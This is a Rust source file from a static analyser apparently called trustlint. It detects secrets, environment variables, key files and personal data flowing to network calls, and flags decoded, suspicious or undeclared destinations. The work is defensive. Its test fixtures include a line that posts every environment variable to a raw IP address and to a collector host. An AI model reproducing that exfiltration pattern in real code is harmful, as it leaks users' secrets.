//! Sensitive data reaching network sinks, and where network calls go. One pass of the
//! data-flow engine (`crate::dataflow`) serves every data-upload rule, so the file is
//! evaluated once however many of them are enabled.

use crate::Context;
use crate::context::is_doc_comment;
use crate::dataflow::{
    self, Destination, NetworkCall, Position, RuleKind, Seeds, Upload, catalogue,
};
use crate::mentions::Mentions;
use std::collections::HashSet;
use std::ops::Range;
use trustlint_core::hosts::{self, SuspiciousKind};
use trustlint_core::rules::data_upload as rules;
use trustlint_core::{Diagnostic, FlowStep, RuleMeta, Severity, TextRange};

pub static RULES: &[&RuleMeta] = &[
    &rules::sensitive_data_to_network::RULE,
    &rules::env_vars_to_network::RULE,
    &rules::key_file_to_network::RULE,
    &rules::clipboard_to_network::RULE,
    &rules::device_id_to_network::RULE,
    &rules::location_to_network::RULE,
    &rules::contacts_to_network::RULE,
    &rules::undeclared_host::RULE,
    &rules::suspicious_destination::RULE,
];

/// Only shipped code is reported, and every finding is a network call or an
/// upload through one: a catalogued constructor or call, a configured sink, a
/// client method (`get`, `post`, …) on a value named like a client or given a URL
/// (whose `://` comes from a string or a character literal, `':'`, `'\x3a'` or
/// `'\u{3a}'`), or a websocket message.
pub fn may_report(cx: &Context<'_>) -> bool {
    let mentions = cx.mentions();
    let catalogued = catalogue::NET_CONSTRUCTORS
        .iter()
        .map(|(path, _)| *path)
        .chain(catalogue::NET_CALLS.iter().map(|call| call.path))
        .any(|path| mentions.has_all(path));
    let client_method = catalogue::CLIENT_METHODS
        .iter()
        .any(|(method, _)| mentions.has(method))
        && (catalogue::CLIENT_NAME_HINTS
            .iter()
            .any(|hint| mentions.has_part_ignoring_case(hint))
            || cx
                .literals
                .iter()
                .any(|literal| literal.value.contains(':'))
            || ["':'", "\\x3", "\\u{"]
                .iter()
                .any(|char_literal| cx.source.text.contains(char_literal)));
    let websocket = mentions.has_path("Message::Text") || mentions.has_path("Message::Binary");
    cx.may_ship()
        && (catalogued || client_method || websocket || !cx.config.data_upload.sinks.is_empty())
        && may_find_data_or_flagged_destination(cx)
}

/// Whether the data-flow pass could report anything about the file's network calls:
/// a source or destination list is configured, or the file may hold a seed
/// ([`may_seed`]). Most files that make network calls hold none, and are neither
/// parsed nor evaluated.
fn may_find_data_or_flagged_destination(cx: &Context<'_>) -> bool {
    let config = &cx.config.data_upload;
    !config.sources.is_empty()
        || !config.allowed_hosts.is_empty()
        || may_seed(
            cx,
            &FileWide::of(cx),
            0..cx.source.text.len(),
            cx.mentions(),
        )
}

/// What [`may_seed`] reads from the whole file, found once for all its regions.
struct FileWide {
    /// The catalogued paths (sources, decoders) the file may call, and whether
    /// each may be imported under another name.
    paths: Vec<(&'static [&'static str], bool)>,
    /// The catalogued source methods the file may call ([`Mentions::has_method_call`])
    /// on a receiver it may name as its catalogue entry asks. The receiver's value
    /// may be made in another function than the call, so its words are looked for
    /// in the whole file.
    methods: Vec<&'static str>,
    /// A cast, `collect`, `concat`, `from_utf8` or `from_iter` that may turn
    /// bytes into text.
    turns_bytes_to_text: bool,
}

impl FileWide {
    fn of(cx: &Context<'_>) -> FileWide {
        let file = cx.mentions();
        // A source function's path is called, or imported, with its owner in
        // path position (`hostname::get`, `use std::env::var`); a decoder may be
        // a method on an engine (`general_purpose::STANDARD.decode`).
        let owned = |path: &&[&str]| path.len() < 2 || file.has_path_owner(path[path.len() - 2]);
        let paths = catalogue::FUNCTION_SOURCES
            .iter()
            .map(|(path, _)| *path)
            .chain(ENV_READS)
            .filter(owned)
            .chain(catalogue::DECODERS.iter().copied())
            .filter(|path| file.has_all(path))
            .map(|path| {
                let last = path.last().expect("catalogued paths are not empty");
                (path, file.has_renamed_import(last))
            })
            .collect();
        let turns_bytes_to_text = file.has_any(&[
            "char",
            "collect",
            "concat",
            "from_utf8",
            "from_utf8_lossy",
            "from_iter",
        ]);
        let methods = catalogue::METHOD_SOURCES
            .iter()
            .filter(|(method, hints, _)| {
                // A hint is a word of the receiver's name or type, so part of a run.
                file.has_method_call(method)
                    && (hints.is_empty()
                        || hints.iter().any(|hint| file.has_part_ignoring_case(hint)))
            })
            .map(|(method, _, _)| *method)
            .collect();
        FileWide {
            paths,
            methods,
            turns_bytes_to_text,
        }
    }

    /// Whether code whose words are `here` may call the catalogued `path`.
    fn may_call(&self, here: &Mentions<'_>, path: &[&str]) -> bool {
        self.paths.iter().any(|(named, renamed)| {
            *named == path && (*renamed || path.last().is_some_and(|last| here.has(last)))
        })
    }
}

/// Reading an environment variable.
const ENV_READS: [&[&str]; 2] = [&["env", "var"], &["env", "var_os"]];

/// Whether the code in `region` of the file, whose words are `here`, may hold a
/// seed of what the data-flow pass reports (see `dataflow::Seeds`). An upload needs
/// a source of sensitive data: a catalogued source call ([`FileWide`]), an
/// environment variable read, or a key file named by a string. Without one, a call is reported only for a flagged
/// destination: a decoded one ([`may_decode`]), or one
/// [`hosts::may_build_flagged_destination`] could build. A catalogued path's
/// other segments may be written anywhere in the file (its `use` imports), and a
/// name imported under another may be called anywhere.
fn may_seed(cx: &Context<'_>, file: &FileWide, region: Range<usize>, here: &Mentions<'_>) -> bool {
    let called = |path: &[&str]| file.may_call(here, path);
    let source_call = catalogue::FUNCTION_SOURCES
        .iter()
        .any(|(path, _)| called(path))
        || file.methods.iter().any(|method| here.has(method))
        || ENV_READS.iter().any(|path| called(path));
    let key_file_or_flagged_host = cx
        .literals_in(region.clone())
        .iter()
        .filter(|literal| !is_doc_comment(cx.source.text, literal.range))
        .any(|literal| {
            let literal = literal.value.as_str();
            catalogue::may_name_key_file(literal)
                || catalogue::names_key_files(literal)
                || hosts::may_build_flagged_destination(literal)
        });
    source_call || key_file_or_flagged_host || may_decode(cx, file, region, here, called)
}

/// Whether the code in `region` may decode text at run time (the evaluator's
/// `decoded` values): a catalogued decoder, `rev` (text written backwards), `^`
/// (XOR) outside string literals, or bytes written as a byte string or an array
/// of numbers or characters, in a file that may turn bytes into text
/// ([`FileWide::turns_bytes_to_text`]; values reach it only through calls).
fn may_decode(
    cx: &Context<'_>,
    file: &FileWide,
    region: Range<usize>,
    here: &Mentions<'_>,
    called: impl Fn(&[&str]) -> bool,
) -> bool {
    // `.decode(…)` is decoded text on any receiver, so only the catalogued
    // functions' other names (`decode_config`) add to it.
    let decoder = here.has("decode")
        || here.has("rev")
        || catalogue::DECODERS.iter().any(|path| called(path));
    decoder
        || cx.written_outside_literals('^', region.clone())
        || (file.turns_bytes_to_text && writes_bytes(cx.source.text, region))
}

/// Whether `region` of `text` writes bytes as a byte string or as an array of
/// numbers or characters.
fn writes_bytes(text: &str, region: Range<usize>) -> bool {
    let code = &text[region.clone()];
    code.contains("b\"")
        || code.contains("br\"")
        || code.contains("br#")
        || code.match_indices('[').any(|(at, _)| {
            let at = region.start + at;
            // An array, not an index (`buf[0]`): nothing that ends a value before it.
            let indexes = text[..at]
                .ends_with(|c: char| c.is_ascii_alphanumeric() || matches!(c, '_' | ')' | ']'));
            !indexes
                && text[at + 1..]
                    .trim_start()
                    .starts_with(|c: char| c.is_ascii_digit() || c == '\'')
        })
}

pub fn check(cx: &mut Context<'_>) {
    let Some(syntax) = cx.syntax() else {
        return;
    };
    let config = &cx.config.data_upload;
    let file = FileWide::of(cx);
    let may_seed = |region: Range<usize>, here: &Mentions<'_>| may_seed(cx, &file, region, here);
    // A configured source or allow-list makes other functions matter: all are evaluated.
    let prune = cx.spares_work && config.sources.is_empty() && config.allowed_hosts.is_empty();
    let seeds = prune.then_some(Seeds {
        text: cx.source.text,
        may_seed: &may_seed,
    });
    let flows = dataflow::analyze(syntax, config, seeds.as_ref());
    let build_script = cx.source.path == "build.rs" || cx.source.path.ends_with("/build.rs");
    let mut reported: HashSet<(TextRange, &'static str)> = HashSet::new();
    let mut diagnostics = Vec::new();
    for upload in &flows.uploads {
        if upload.guarded || cx.is_test_code(upload.range) {
            continue;
        }
        if let Some(diagnostic) = upload_diagnostic(upload, build_script)
            && reported.insert((diagnostic.range, diagnostic.rule.id))
        {
            diagnostics.push(diagnostic);
        }
    }
    for call in &flows.network_calls {
        if cx.is_test_code(call.range) {
            continue;
        }
        if let Some(diagnostic) = suspicious_destination(call, build_script) {
            diagnostics.push(diagnostic);
        }
        if let Some(diagnostic) = undeclared_host(call, &cx.config.data_upload.allowed_hosts) {
            diagnostics.push(diagnostic);
        }
    }
    for diagnostic in diagnostics {
        cx.report(diagnostic);
    }
}

fn rule_for(kind: RuleKind) -> &'static RuleMeta {
    match kind {
        RuleKind::EnvVars => &rules::env_vars_to_network::RULE,
        RuleKind::KeyFile => &rules::key_file_to_network::RULE,
        RuleKind::Clipboard => &rules::clipboard_to_network::RULE,
        RuleKind::DeviceId => &rules::device_id_to_network::RULE,
        RuleKind::Location => &rules::location_to_network::RULE,
        RuleKind::Contacts => &rules::contacts_to_network::RULE,
        RuleKind::Other => &rules::sensitive_data_to_network::RULE,
    }
}

/// Why a destination is suspicious, as a phrase for messages.
fn suspicion(destination: &Destination) -> Option<String> {
    if destination.decoded {
        return Some("a destination decoded at run time".to_owned());
    }
    let text = destination.text.as_deref()?;
    destination.host()?;
    hosts::suspicious_destination(text).map(|kind| SuspiciousKind::describe(kind).to_owned())
}

fn upload_diagnostic(upload: &Upload, build_script: bool) -> Option<Diagnostic> {
    let data = upload.taint.data_type()?;
    let suspicious = upload.destination.as_ref().and_then(suspicion);
    // A token sent as the authorization of a request is how it is meant to be used.
    if data.credential && upload.position == Position::Authorization && suspicious.is_none() {
        return None;
    }
    let rule = rule_for(data.rule);
    let verb = if data.plural { "are" } else { "is" };
    let destination = match (
        upload.destination.as_ref().and_then(Destination::host),
        &suspicious,
    ) {
        (Some(host), Some(why)) => format!(" to `{host}`, {why}"),
        (Some(host), None) => format!(" to `{host}`"),
        (None, Some(why)) => format!(" to {why}"),
        (None, None) => String::new(),
    };
    let message = format!(
        "{} {verb} sent over the network by `{}`{destination}",
        capitalize(&data.label),
        upload.call
    );
    let help = match data.rule {
        RuleKind::EnvVars => {
            "send only the one setting the feature needs; if a dependency does this, remove it and rotate every secret of that environment"
        }
        RuleKind::KeyFile => {
            "never upload key or credential files; if this code has run, rotate every key it could read"
        }
        RuleKind::DeviceId => {
            "use a random, resettable install id, and send identifiers only after the user consented"
        }
        RuleKind::Clipboard => {
            "read the clipboard only on an explicit paste, and send it only when the user asked for it"
        }
        RuleKind::Location | RuleKind::Contacts | RuleKind::Other => {
            "ask for consent and check it where the data is sent (names in `[data-upload] consent-checks` count)"
        }
    };
    let steals_secrets = matches!(data.rule, RuleKind::EnvVars | RuleKind::KeyFile);
    let severity = if build_script || (steals_secrets && suspicious.is_some()) {
        Severity::Critical
    } else {
        Severity::High
    };
    let flow = upload
        .taint
        .steps
        .iter()
        .filter(|step| step.range != upload.range)
        .map(|step| FlowStep {
            range: step.range,
            note: step.note.render(data),
        })
        .collect();
    Some(
        Diagnostic::new(rule, upload.range, message)
            .with_help(help)
            .with_flow(flow)
            .with_severity(severity),
    )
}

fn suspicious_destination(call: &NetworkCall, build_script: bool) -> Option<Diagnostic> {
    let rule = &rules::suspicious_destination::RULE;
    let host = call.destination.host();
    let message = if call.destination.decoded {
        match &host {
            Some(host) => format!(
                "Network destination `{host}` is decoded at run time, hidden from readers of the source"
            ),
            None => "Network destination is decoded at run time, hidden from readers of the source"
                .to_owned(),
        }
    } else {
        let kind = hosts::suspicious_destination(call.destination.text.as_deref()?)?;
        format!("Network call to {} (`{}`)", kind.describe(), host?)
    };
    let severity = if build_script {
        Severity::Critical
    } else {
        rule.severity
    };
    Some(
        Diagnostic::new(rule, call.range, message)
            .with_help("send data only to services the project operates, named in the source and listed in `[data-upload] allowed-hosts`")
            .with_severity(severity),
    )
}

fn undeclared_host(call: &NetworkCall, allowed_hosts: &[String]) -> Option<Diagnostic> {
    if allowed_hosts.is_empty() {
        return None;
    }
    let host = call.destination.host()?;
    if hosts::is_loopback_host(&host) || hosts::is_allowed_host(&host, allowed_hosts) {
        return None;
    }
    Some(
        Diagnostic::new(
            &rules::undeclared_host::RULE,
            call.range,
            format!("Network call to `{host}`, which is not in `[data-upload] allowed-hosts`"),
        )
        .with_help("add the host to `allowed-hosts` in trustlint.toml if this destination is intended and disclosed"),
    )
}

fn capitalize(text: &str) -> String {
    let mut chars = text.chars();
    match chars.next() {
        Some(first) => first.to_uppercase().chain(chars).collect(),
        None => String::new(),
    }
}

#[cfg(test)]
mod tests {
    use crate::RustAnalyzer;
    use trustlint_core::{Analyzer, Config, Severity, SourceFile};

    /// (rule id, 1-based line, severity, message) of every finding.
    fn findings(path: &str, text: &str, config: &str) -> Vec<(String, usize, Severity, String)> {
        let config = Config::parse("trustlint.toml", config).expect("test config");
        let source = SourceFile {
            path,
            text,
            is_test_path: false,
        };
        let mut found: Vec<_> = RustAnalyzer
            .analyze(&source, &config)
            .diagnostics
            .into_iter()
            .map(|d| {
                let line = text[..d.range.start].matches('\n').count() + 1;
                let severity = d.severity.unwrap_or(d.rule.severity);
                (d.rule.id.to_owned(), line, severity, d.message)
            })
            .collect();
        found.sort_by(|a, b| (a.1, &a.0).cmp(&(b.1, &b.0)));
        found
    }

    const TELEMETRY: &str = r#"
const API: &str = "https://api.example.com/v1";
fn send(client: &reqwest::blocking::Client) {
    let _ = client.post(format!("{API}/events")).body("started").send();
    let _ = client.post("https://eu.telemetry.example.org/e").body("started").send();
    let _ = client.post("https://metrics.unknown-vendor.io/e").body("started").send();
    let _ = client.get("http://localhost:8080/health").send();
}
"#;

    #[test]
    fn undeclared_hosts_are_reported_only_with_an_allow_list() {
        assert!(findings("src/telemetry.rs", TELEMETRY, "").is_empty());
        let config = "[data-upload]\nallowed-hosts = [\"api.example.com\", \"*.example.org\"]\n";
        let found = findings("src/telemetry.rs", TELEMETRY, config);
        assert_eq!(found.len(), 1, "{found:?}");
        let (rule, line, severity, message) = &found[0];
        assert_eq!((rule.as_str(), *line), ("data-upload/undeclared-host", 6));
        assert_eq!(*severity, Severity::Medium);
        assert_eq!(
            message,
            "Network call to `metrics.unknown-vendor.io`, which is not in `[data-upload] allowed-hosts`"
        );
    }

    #[test]
    fn secrets_to_suspicious_destinations_and_build_scripts_are_critical() {
        let text = r#"
fn main() {
    let env: Vec<(String, String)> = std::env::vars().collect();
    let _ = ureq::post("http://45.61.139.17/e").send_json(&env);
    let _ = ureq::post("https://collector.example.net/e").send_json(&env);
}
"#;
        let found = findings("src/lib.rs", text, "");
        let summary: Vec<(&str, usize, Severity)> =
            found.iter().map(|f| (f.0.as_str(), f.1, f.2)).collect();
        assert_eq!(
            summary,
            vec![
                ("data-upload/env-vars-to-network", 4, Severity::Critical),
                ("data-upload/suspicious-destination", 4, Severity::High),
                ("data-upload/env-vars-to-network", 5, Severity::High),
            ]
        );
        assert_eq!(
            found[0].3,
            "Environment variables are sent over the network by `.send_json()` to `45.61.139.17`, a raw public IP address"
        );
        // In a build script every data-upload finding is critical; the
        // debug-entry rule that also fires there keeps its own severity.
        let in_build_script: Vec<_> = findings("build.rs", text, "")
            .into_iter()
            .filter(|f| f.0.starts_with("data-upload/"))
            .collect();
        assert_eq!(in_build_script.len(), 3, "{in_build_script:?}");
        assert!(
            in_build_script.iter().all(|f| f.2 == Severity::Critical),
            "{in_build_script:?}"
        );
    }

    #[test]
    fn configured_consent_checks_silence_flows() {
        let text = r#"
fn report(prefs: &Prefs, client: &reqwest::blocking::Client) {
    if prefs.diagnostics_allowed() {
        let _ = client.post("https://t.example.com").body(whoami::hostname()).send();
    }
}
"#;
        assert_eq!(findings("src/lib.rs", text, "").len(), 1);
        let config = "[data-upload]\nconsent-checks = [\"diagnostics_allowed\"]\n";
        assert!(findings("src/lib.rs", text, config).is_empty());
    }
}
